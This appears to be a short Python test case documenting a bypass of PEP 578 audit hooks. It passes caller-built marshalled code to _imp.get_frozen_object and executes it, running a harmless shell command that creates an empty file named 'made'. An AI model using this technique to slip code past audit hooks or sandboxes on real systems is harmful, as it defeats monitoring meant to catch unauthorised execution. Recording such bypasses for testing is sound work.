"""The frozen modules' loader takes its data from whoever calls.

Known from: PEP 578 bypasses by functions below the import system
Effect: made
"""
import _imp
import marshal

data = marshal.dumps(compile("__import__('os').system(': > made')", "f", "exec"))
exec(_imp.get_frozen_object("module", data))
